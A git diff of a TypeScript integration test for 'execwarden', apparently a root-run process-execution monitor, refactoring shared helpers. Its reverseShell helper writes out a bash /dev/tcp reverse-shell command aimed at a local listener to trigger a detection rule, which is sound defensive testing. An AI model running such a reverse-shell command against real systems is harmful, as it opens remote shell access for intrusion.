@@ -11,18 +11,12 @@ import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { describeAsRoot } from '../support/require-root.js';
+import { runShell } from '../capture/kernel-capture.js';
+import { waitFor } from '../support/wait.js';
 
 const ROOT = resolve(import.meta.dirname, '../..');
 const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
 const PROBE_RULE = '6a0d7f3e-2b4c-4e8a-9f1d-3c5b7a9e0d21';
-
-function runShell(script: string): Promise<void> {
-  return new Promise((resolve, reject) => {
-    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore', timeout: 10_000 });
-    child.once('error', reject);
-    child.once('exit', () => resolve());
-  });
-}
 
 async function freePort(): Promise<number> {
   const server = createServer();
@@ -30,16 +24,6 @@ async function freePort(): Promise<number> {
   const port = (server.address() as AddressInfo).port;
   await new Promise<void>((r) => server.close(() => r()));
   return port;
-}
-
-async function waitFor<T>(what: string, probe: () => T | undefined | null | false, timeoutMs = 10_000, detail?: () => string): Promise<T> {
-  const deadline = Date.now() + timeoutMs;
-  for (;;) {
-    const value = probe();
-    if (value) return value;
-    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}${detail ? `: ${detail()}` : ''}`);
-    await new Promise((r) => setTimeout(r, 50));
-  }
 }
 
 describeAsRoot('execwarden run (live, as its own process)', () => {
@@ -67,7 +51,7 @@ describeAsRoot('execwarden run (live, as its own process)', () => {
    */
   function reverseShell(marker: string): Promise<void> {
     const inner = `bash -i >& /dev/tcp/127.0.0.1/${listenerPort} 0>&1 #${marker}`;
-    return runShell(`setsid bash -c '${inner}'; true`);
+    return runShell(`setsid bash -c '${inner}'; true`, '/bin/bash').then(() => undefined);
   }
 
   beforeAll(async () => {
@@ -142,7 +126,7 @@ describeAsRoot('execwarden run (live, as its own process)', () => {
     writeFileSync(join(dir, 'rules', 'probe.toml'), probe);
     agent.kill('SIGHUP');
     await waitFor('the reload', () => log.includes('rules reloaded: 8 rules'));
-    await runShell('/bin/echo execwarden-reload-probe > /dev/null');
+    await runShell('/bin/echo execwarden-reload-probe > /dev/null', '/bin/bash');
     await waitFor('the probe alert', alertFor(PROBE_RULE, 'execwarden-reload-probe'));
   });
 
